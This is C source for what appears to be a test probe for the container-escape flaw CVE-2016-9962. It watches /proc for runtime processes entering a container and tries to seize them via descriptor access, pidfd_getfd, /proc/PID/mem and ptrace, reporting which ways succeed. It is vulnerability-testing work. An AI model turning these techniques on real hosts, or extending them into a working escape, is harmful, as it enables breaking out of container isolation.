/*
 * trace: tries to get hold of every process that comes into the container, CVE-2016-9962. A line for each process and way, once:
 *
 *   tried WAY NAME        it did not work
 *   got WAY NAME          it worked: fd (open a descriptor through /proc), getfd (pidfd_getfd), trace (ptrace), memory (/proc/PID/mem), root, exe
 *
 * NAME is the first word of its command line. Processes of the container's own programs, which it may trace, are left alone; so is one that becomes such a
 * program while it is tried: what was got may have been got from that.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static unsigned char done[1 << 16];

static int opens(int pid, const char *what, int flags) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/%s", pid, what);
  int fd = open(path, flags | O_CLOEXEC);
  if (fd >= 0) close(fd);
  return fd >= 0;
}

static int opens_descriptor(int pid) {
  for (int i = 0; i < 64; i++) {
    char what[16];
    snprintf(what, sizeof what, "fd/%d", i);
    if (opens(pid, what, O_PATH)) return 1;
  }
  return 0;
}

static int gets_descriptor(int pid) {
  int process = syscall(SYS_pidfd_open, pid, 0), found = 0;
  for (int i = 0; i < 64 && process >= 0 && !found; i++) {
    int fd = syscall(SYS_pidfd_getfd, process, i, 0);
    if (fd >= 0) { found = 1; close(fd); }
  }
  if (process >= 0) close(process);
  return found;
}

/* The right to it is what counts. It is let go once it has stopped, see main: one that is frozen stops later. */
static int traces(int pid) { return !ptrace(PTRACE_SEIZE, pid, 0, 0) && !ptrace(PTRACE_INTERRUPT, pid, 0, 0); }

static void tell(const char *way, int got, const char *name) { printf("%s %s %s\n", got ? "got" : "tried", way, name); }

/* The first word of a command line without its folders; empty for a process that is none of those attacked. */
static const char *victim(int pid, char *name, size_t size) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  ssize_t n = fd < 0 ? 0 : read(fd, name, size - 1);
  if (fd >= 0) close(fd);
  name[n < 0 ? 0 : n] = 0;
  const char *base = strrchr(name, '/') ? strrchr(name, '/') + 1 : name;
  return strncmp(base, "keelson-runtime", 15) && strcmp(base, "enter") ? "" : base;
}

static void attack(int pid) {
  char name[256], after[256];
  const char *base = victim(pid, name, sizeof name);
  if (!*base) return;
  done[pid] = 1;
  int fd = opens_descriptor(pid), getfd = gets_descriptor(pid), memory = opens(pid, "mem", O_RDONLY), root = opens(pid, "root/", O_PATH), exe = opens(pid, "exe", O_PATH);
  if (!*victim(pid, after, sizeof after)) return;
  int trace = traces(pid);
  if (!*victim(pid, after, sizeof after)) return;
  tell("fd", fd, base);
  tell("getfd", getfd, base);
  tell("memory", memory, base);
  tell("root", root, base);
  tell("exe", exe, base);
  tell("trace", trace, base);
}

int main(void) {
  setvbuf(stdout, 0, _IOLBF, 0);
  puts("ready");
  for (;;) {
    DIR *d = opendir("/proc");
    for (struct dirent *e; d && (e = readdir(d));) {
      int pid = isdigit((unsigned char)*e->d_name) ? atoi(e->d_name) : 0;
      if (pid && pid != getpid() && pid != getppid() && pid < (int)sizeof done && !done[pid]) attack(pid);
    }
    if (d) closedir(d);
    for (int pid, status; (pid = waitpid(-1, &status, __WALL | WNOHANG)) > 0;)
      if (WIFSTOPPED(status)) ptrace(PTRACE_DETACH, pid, 0, 0);
    sched_yield();
  }
}
